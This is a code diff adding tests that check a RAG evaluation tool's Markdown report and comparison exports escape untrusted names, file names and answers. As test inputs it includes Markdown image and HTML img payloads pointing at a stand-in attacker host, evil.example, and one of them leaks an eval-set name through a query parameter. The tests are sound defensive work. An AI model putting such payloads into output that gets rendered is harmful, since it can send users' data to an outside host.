@@ -14,6 +14,7 @@ from core.evaluation.evaluate import (
     save_report,
 )
 from core.knowledge.retrieval import RetrievalConfig, Retrieved
+from core.runtime.text import md_escape
 
 RETRIEVAL_MISS, GENERATION_ERROR = "retrieval miss", "generation error"  # the report's failure labels
 
@@ -156,7 +157,22 @@ def test_report_opens_with_a_verdict_naming_its_metric(report):
     assert "contains the gold answer" in report["verdict"]
     assert report["partial"] is False
     markdown = R.to_markdown(report)
-    assert markdown.splitlines()[2] == f"**Verdict:** {report['verdict']}"
+    assert markdown.splitlines()[2] == f"**Verdict:** {md_escape(report['verdict'])}"
+
+
+def test_markdown_export_shows_hostile_names_as_text(report):
+    # a CommonMark viewer rendered `**![n](https:evil.example?d=evalname)**` in the eval-set name
+    # as an image; every user- or file-derived string in the export is escaped
+    from markdown_it import MarkdownIt
+
+    payload = "![n](https://evil.example/x.png?d=evalname) `tick"
+    hostile = dict(report, eval_set={**report["eval_set"], "name": payload},
+                   setup={**report["setup"], "kb": payload, "adapter": payload})
+    tokens = MarkdownIt("commonmark").parse(R.to_markdown(hostile))
+    kinds = {child.type for token in tokens for child in (token.children or [])}
+    assert not kinds & {"image", "link_open", "code_inline", "html_inline"}
+    html = MarkdownIt("commonmark").render(R.to_markdown(hostile))
+    assert "![n](https://evil.example/x.png?d=evalname)" in html and "<img" not in html  # shown, as text
 
 
 def test_estimate_uses_measured_seconds_per_answer(report, data_dir):
@@ -197,3 +213,17 @@ def test_unreadable_report_is_skipped_in_the_list(data_dir):
     (data_dir / "reports").mkdir()
     (data_dir / "reports" / "broken.json").write_text("{nope")
     assert list_reports() == []
+
+
+def test_compare_export_shows_hostile_text_as_text():
+    # Compare's Markdown export: question, file names and the answer itself are untrusted
+    from markdown_it import MarkdownIt
+
+    from core.evaluation.conversation import Conversation, Exchange
+
+    payload = "![n](https://evil.example/x.png) `tick <img src=https://evil.example/y>"
+    record = {"title": "RAG", "answer": payload, "total_ms": 1.0, "tokens": 3, "tokens_per_s": 1.0,
+              "prompt_tokens": 9, "sources": [{"file": payload, "page": None, "row": None, "chunk": 0, "score": 0.5}]}
+    conversation = Conversation(setup={"kb": payload}, exchanges=[Exchange(payload, {"rag": record})])
+    html = MarkdownIt("commonmark").render(conversation.to_markdown())
+    assert "<img" not in html and "<a " not in html and "<code>" not in html
